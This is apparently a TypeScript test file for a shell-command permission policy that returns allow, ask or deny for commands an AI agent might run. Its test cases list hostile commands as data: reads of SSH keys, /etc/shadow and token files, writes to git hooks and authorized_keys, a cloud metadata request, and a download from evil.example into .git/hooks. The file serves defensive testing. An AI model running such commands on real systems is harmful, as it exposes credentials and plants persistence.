import { describe, expect, it } from "vitest";
import { LIMITS } from "../limits.ts";
import { definePolicy } from "./define-policy.ts";
import { evaluatePolicy } from "./evaluate-policy.ts";
import type { PolicyInput } from "./policy.ts";

const workspace = { roots: ["/srv/app"], home: "/home/me" };

function judge(command: string, input: PolicyInput = {}) {
  const policy = definePolicy({ preset: "developer", workspace, ...input });
  return evaluatePolicy(policy, { kind: "command", command, cwd: "/srv/app" });
}

describe("the work for one request", () => {
  const words = (count: number): string => "a ".repeat(count).trim();

  it.each([
    [
      "loops in nested scripts",
      `for i in ${words(60)}; do bash -c 'for j in ${words(60)}; do bash -c "for k in ${words(60)}; do ls; done"; done'; done`,
    ],
    ["long scripts in a loop", `for i in ${words(399)}; do bash -c '${"ls;".repeat(300)}'; done`],
  ])("is bounded for %s", (_, command) => {
    const { decision, parse } = judge(command);
    expect(decision).toBe("ask");
    expect(parse.length).toBeLessThanOrEqual(2 * LIMITS.commands);
  });

  it.each([24, 60])("is bounded if a variable doubles itself %i times", (count) => {
    const { decision, rule, reason } = judge(`a=xxxxxxxxxx;${'a="$a$a";'.repeat(count)} echo $a`);
    expect([decision, rule, reason]).toEqual([
      "ask",
      "not-understood",
      "a script this long is not understood",
    ]);
  });

  it("is bounded for programs in arguments", () => {
    const command = `for i in ${words(70)}; do sed '${"s/a/b/;".repeat(4_000)}' x; done`;
    expect(judge(command).reason).toBe("the arguments of sed are too long to judge");
  });

  it("is bounded for clusters of options and for paths that can't exist", () => {
    expect(judge(`grep -${"i".repeat(1_000)} x f`).rule).toBe("not-understood");
    expect(judge(`touch ${"a/".repeat(3_000)}b`).decision).toBe("ask");
  });

  it("is sufficient for loops and nested scripts of an ordinary size", () => {
    expect(judge(`for i in ${words(20)}; do bash -c 'ls; cat x | head'; done`).decision).toBe("allow");
  });
});

describe("files that must not be read", () => {
  const deny: PolicyInput["deny"] = [{ kind: "path", glob: ".env" }];

  it.each([
    "bash .env",
    ". ./.env",
    "node .env",
    "make -f .env",
    "pip install -r .env",
    "git diff .env",
    "git add .env",
    "git log -p -- .env",
    "git blame .env",
    "git show HEAD:.env",
    "prettier --write .env",
    "eslint .env",
  ])("are denied to %s", (command) => {
    expect(judge(command, { deny }).rule).toBe("deny[0]");
  });

  it.each([
    "cat .e*",
    "cat .[e]nv",
    "cp .e* /tmp",
    "grep -r K .",
    "grep -R K . src",
    "grep -rn K",
    "rg --hidden K",
    "rg -g .env K",
    "rg -g '*env' K",
    "rg --glob='{a,.env}' K",
    "rg --iglob .ENV K",
    "tar cf x.tar .",
    "zip -r x.zip .",
    "cp -r . /tmp/y",
    "diff -r . /tmp",
  ])("may be among the files that %s uses without naming them", (command) => {
    expect(judge(command, { deny })).toMatchObject({ decision: "ask", rule: "deny[0]" });
    expect(judge(command, { deny, additionalAllow: [{ kind: "script", text: command }] }).decision).toBe(
      "ask",
    );
    expect(judge(command, { deny, additionalAllow: ["grep", "cat", "cp"] }).decision).toBe("ask");
    expect(judge(command, { deny, preset: "danger-full-access" }).decision).toBe("ask");
  });

  it.each([
    "cat *.ts",
    "rg K .",
    "rg -g '*.ts' K",
    "rg -g '!.env' K",
    "grep -r K src",
    "grep K src/a.ts",
    "cp a.ts b.ts",
    "tar xf x.tar",
  ])("are not among the files that %s uses", (command) => {
    expect(judge(command, { deny }).decision).toBe("allow");
  });

  it.each(["cat $(echo .env)", "echo .env | xargs cat", "find . -type f | xargs cat", "xargs cat < list"])(
    "may be the unknown words of %s",
    (command) => {
      expect(judge(command, { deny }).decision).toBe("ask");
    },
  );

  it.each([
    "cat $(echo ~/.ssh/id_rsa)",
    "echo ~/.ssh/id_rsa | xargs cat",
    "(echo ~/.ssh/id_rsa; ls) | xargs cat",
    "xargs cat <<< ~/.ssh/id_rsa",
    "xargs cat < list",
    "cat list | xargs cat",
    "ls | xargs -a list cat",
    "grep -hel list | xargs cat",
    "grep -e -l list | xargs cat",
    "ls -l | xargs cat",
    "find . -type f | xargs cat | xargs cat",
    "find . -type f | sed s/a/b/ | xargs cat",
    "find ~ -name id_rsa | xargs cat",
    "cd ~ && find . -name id_rsa | xargs cat",
    "echo ~/.ssh/id_rsa | bash -c 'xargs cat'",
    "cat /proc/self/cwd/x",
    "grep -r PRIVATE ~",
    "cd ~ && grep -r . .",
    "grep -r PRIVATE /home",
    "grep -r token ~/.config",
    "rg token ~/.config",
    "cd ~/.config && grep -r token .",
    "cp -r ~/.docker/. docker",
    "tar cf - ~/.kube",
    "diff -r ~/.cargo other",
    "find ~/.config -name hosts.yml -exec cat {} +",
    "grep -r root /etc",
    "grep -r PATH /proc/self",
    "grep -r root /e*",
    "grep -r token /home/m?/.config",
    "cat ~/.config/*/hosts.yml",
    "cat ~/.docker/*.json",
    "cat ~/.cargo/[c]redentials",
    "head -1 ~/.local/share/*/*",
    "cat /etc/shado?",
    "cat /proc/self/env*",
    "cat /run/*/token",
    "cat ~/keys/id_r*",
  ])("may be credentials in %s", (command) => {
    for (const preset of ["read-only", "workspace-write", "developer"] as const)
      expect(judge(command, { preset }).decision).not.toBe("allow");
    expect(judge(command, { preset: "danger-full-access" }).decision).toBe("allow");
  });

  it.each([
    "find src -name '*.ts' | xargs wc -l",
    "git ls-files | grep '\\.ts$' | head -20 | xargs grep -n foo",
    "rg -l oldName | xargs grep -c oldName",
    "ls | xargs cat",
    "for f in $(ls src); do head -5 $f; done",
    "grep -r theme ~/.config/nvim",
    "grep -r listen /etc/nginx",
    "cat /etc/*-release",
    "cat ~/documents/*",
  ])("are not read by %s", (command) => {
    expect(judge(command, { preset: "read-only" }).decision).toBe("allow");
  });
});

describe("numbers of processes", () => {
  const decide = (command: string) => judge(command, { preset: "developer" }).decision;

  it.each([
    "lsof -ti:3000 | xargs kill -9",
    "lsof -t -i :8080 | xargs -r kill",
    "pgrep -f 'node server' | head -1 | xargs kill",
    "pgrep node | xargs -I{} kill {}",
  ])("may be killed: %s", (command) => {
    expect(decide(command)).toBe("allow");
  });

  it.each([
    "lsof -i:3000 | xargs kill",
    "cat pids | xargs kill",
    "pgrep -l node | xargs kill",
    "lsof -t -i :8080 | xargs kill $USER",
    "lsof -t -i :8080 | xargs -I{} kill -{}",
    "cat pids; lsof -t -i :8080 | xargs kill",
    "lsof -t -i :8080; xargs kill < pids",
    "lsof -t -i :8080 | xargs rm",
    "lsof -t | xargs kill",
    "pgrep node | xargs -a pids kill",
    "lsof -t -u me -i :8080 | xargs kill",
    "lsof -t -i | xargs kill",
    "pgrep . | xargs kill",
    "pgrep -v node | xargs kill",
    "pgrep -d ' -1 ' node | xargs kill",
    "pgrep node | grep -A1 --group-separator=-1 1 | xargs kill",
  ])("are not the only possible input of %s", (command) => {
    expect(decide(command)).toBe("ask");
  });
});

describe("a rule that allows a program", () => {
  it.each([
    ["cp", "cp a .git/hooks/x"],
    ["cp", "cp a .codex/x"],
    ["cp", "cp a /etc/x"],
    ["cp", "cp a ~/.bashrc"],
    ["cp", "cp a ~/.ssh/authorized_keys"],
    ["rm", "rm -rf .git"],
    ["rm", "rm ~/.bashrc"],
    ["tee", "echo x | tee .git/hooks/pre-commit"],
    ["sed", "sed -i s/a/b/ /etc/passwd"],
    ["tar", "tar xf a -C .git"],
    ["mv", "mv .git x"],
    ["curl", "curl http://169.254.169.254/"],
    ["curl", "curl https://evil.example -o .git/hooks/x"],
    ["echo", "echo x > .git/hooks/x"],
  ])("about %s does not override the refusal of %s", (rule, command) => {
    for (const input of [{ additionalAllow: [rule] }, { allow: [rule, "echo"] }] satisfies PolicyInput[]) {
      const { decision, rule: decidedBy } = judge(command, input);
      expect([decision, decidedBy]).toEqual(["deny", expect.stringMatching(/^safety\//)]);
    }
  });

  it.each<readonly [string, PolicyInput, string]>([
    ["cp .env x", { deny: [{ kind: "path", glob: ".env" }], additionalAllow: ["cp"] }, "deny"],
    ["cp .env x", { ask: [{ kind: "path", glob: ".env" }], additionalAllow: ["cp"] }, "ask"],
    ["cp --odd .env x", { deny: [{ kind: "path", glob: ".env" }], additionalAllow: ["cp"] }, "deny"],
    ["frob --in=.env", { deny: [{ kind: "path", glob: ".env" }], additionalAllow: ["frob"] }, "deny"],
    ["frob .git/hooks/x", { additionalAllow: ["frob"] }, "ask"],
    ["frob https://a.example/x", { network: { deny: ["a.example"] }, additionalAllow: ["frob"] }, "deny"],
    [
      "curl https://a.example/x",
      { deny: [{ kind: "host", host: "a.example" }], additionalAllow: ["curl"] },
      "deny",
    ],
    [
      "curl https://a.example/x",
      { ask: [{ kind: "host", host: "a.example" }], additionalAllow: ["curl"] },
      "ask",
    ],
    ["curl https://a.example/x", { network: { deny: ["a.example"] }, additionalAllow: ["curl"] }, "deny"],
    ["curl http://localhost/x", { network: { loopback: "deny" }, additionalAllow: ["curl"] }, "deny"],
    ["npm install", { effects: { install: "deny" }, additionalAllow: ["npm"] }, "deny"],
    [
      "curl https://a.example/x",
      { network: { deny: ["a.example"] }, allow: [{ kind: "script", text: "curl https://a.example/x" }] },
      "deny",
    ],
  ])("does not override settings for paths, hosts and effects: %s with %j", (command, input, decision) => {
    expect(judge(command, input).decision).toBe(decision);
  });

  it.each<readonly [string, PolicyInput]>([
    ["cp a ../b", { additionalAllow: ["cp"] }],
    ["curl https://a.example/x", { additionalAllow: ["curl"] }],
    ["curl http://localhost/x", { preset: "workspace-write", additionalAllow: ["curl"] }],
    ["rm a", { preset: "read-only", additionalAllow: ["rm"] }],
    ["frob --all src", { additionalAllow: ["frob"] }],
    ["kubectl apply -f k8s/x.yml", { additionalAllow: ["kubectl apply"] }],
  ])("answers the question about %s", (command, input) => {
    expect(judge(command, input).decision).toBe("allow");
  });

  it("does not allow a script whose first default refusal hides a safety refusal", () => {
    const command = "touch b .git/x";
    const allow: PolicyInput["allow"] = [{ kind: "script", text: command }];
    expect(judge(command, { preset: "read-only", allow }).rule).toBe("safety/protected-path");
  });
});

describe("a bracket in a pattern", () => {
  const FOLDERS = [
    ".gi[[:alpha:]]",
    ".gi[]t]",
    ".gi[!]x]",
    ".gi[[=t=]]",
    '.gi[a"]"t]',
    ".gi[t]",
    "[.]git",
    ".g[hi]t",
  ];
  const presets = ["workspace-write", "developer", "danger-full-access"] as const;
  /** Patterns that are not understood, which `danger-full-access` accepts. */
  const UNCLEAR = new Set(['.gi[a"]"t]', "[.]git"]);

  it.each(FOLDERS.flatMap((folder) => presets.map((preset) => [folder, preset] as const)))(
    "never hides git's folder as %s under %s",
    (folder, preset) => {
      for (const command of [`rm -rf ${folder}`, `tee ${folder}/config < a`, `find ${folder} -delete`]) {
        if (preset === "danger-full-access" && UNCLEAR.has(folder)) continue;
        expect([command, judge(command, { preset }).decision]).not.toEqual([command, "allow"]);
      }
    },
  );

  it.each(["cat .en[[:alpha:]]", "cat .en[]v]", "head .en[!]x]", "cat sub/.en[[:lower:]]"])(
    "never hides a denied file: %s",
    (command) => {
      const deny = [{ kind: "path", glob: "**/.env", access: "read" }] as const;
      for (const preset of ["read-only", ...presets] as const)
        expect(judge(command, { preset, deny }).decision).not.toBe("allow");
    },
  );

  it("is understood if every shell reads it alike", () => {
    expect(judge("cat src/file[0-9].txt").decision).toBe("allow");
    expect(judge("[ -f package.json ]").decision).toBe("allow");
  });
});

describe("a prefix that allows a program", () => {
  it.each(["./frob", "sub/frob x", "/srv/app/frob", "/opt/x/frob"])(
    "does not cover the file %s",
    (command) => {
      for (const preset of ["read-only", "workspace-write"] as const)
        expect(judge(command, { preset, additionalAllow: ["frob"] }).decision).not.toBe("allow");
    },
  );

  it("covers the program by its name and in the system's folders", () => {
    for (const command of ["frob x", "/usr/bin/frob x"])
      expect(judge(command, { preset: "read-only", additionalAllow: ["frob"] }).decision).toBe("allow");
    expect(judge("python3 x", { preset: "read-only", additionalAllow: ["python"] }).decision).not.toBe(
      "allow",
    );
  });
});

describe("/dev/null", () => {
  const presets = ["read-only", "workspace-write", "developer", "danger-full-access"] as const;

  it.each([
    "rm /dev/null",
    "rm -f /dev/null",
    "chmod 222 /dev/null",
    "chmod -r /dev/null",
    "cd /dev && chmod +x null",
  ])("is a system file for %s", (command) => {
    for (const preset of presets) expect(judge(command, { preset }).decision).not.toBe("allow");
  });

  it.each(["echo x > /dev/null", "tee /dev/null < a", "sort -o /dev/null a"])(
    "discards output of %s",
    (command) => {
      for (const preset of presets) expect(judge(command, { preset }).decision).toBe("allow");
    },
  );
});
